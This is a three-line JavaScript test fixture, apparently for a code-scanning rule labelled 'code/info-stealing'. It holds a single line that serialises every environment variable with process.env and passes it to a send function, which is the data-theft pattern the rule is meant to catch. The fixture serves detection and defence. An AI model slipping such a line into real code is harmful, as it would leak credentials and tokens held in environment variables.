const send = require('./lib/send');

// ruleid: code/info-stealing
send(JSON.stringify(process.env));
